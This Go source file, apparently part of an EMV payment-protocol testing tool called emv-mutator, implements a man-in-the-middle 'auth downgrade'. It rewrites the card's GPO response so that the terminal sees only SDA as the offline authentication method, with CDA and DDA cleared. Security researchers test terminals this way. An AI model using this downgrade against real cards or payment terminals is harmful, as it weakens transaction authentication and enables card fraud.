package attack

import (
	"context"
	"fmt"

	"github.com/gregLibert/emv-mutator/pkg/emv"
)

// Downgrade rewrites the AIP of a GPO response so that SDA is the strongest
// offline authentication method announced (CDA and DDA cleared, SDA set).
// Every other byte of the response, framing included, is preserved.
type Downgrade struct {
	// AFLEntries is the AFL entry count assumed for compact responses.
	// Zero means emv.DefaultAFLEntries.
	AFLEntries int
}

func (p *Downgrade) Process(_ context.Context, _ *Transaction, apdu []byte, dir Direction) ([]byte, error) {
	if err := requireDirection(TypeAuthDowngrade, dir, CardToTerminal); err != nil {
		return nil, err
	}

	gpo, err := parseGPO(apdu, p.AFLEntries)
	if err != nil {
		return nil, fmt.Errorf("auth downgrade: %w", err)
	}

	gpo.AIP = emv.DowngradeAIP(gpo.AIP)

	out, err := gpo.Bytes()
	if err != nil {
		return nil, fmt.Errorf("auth downgrade: %w", err)
	}
	return out, nil
}

// parseGPO honours a configured compact AFL entry count.
func parseGPO(data []byte, aflEntries int) (*emv.GPOResponse, error) {
	if aflEntries <= 0 {
		aflEntries = emv.DefaultAFLEntries
	}
	return emv.ParseGPOResponseAFL(data, aflEntries)
}
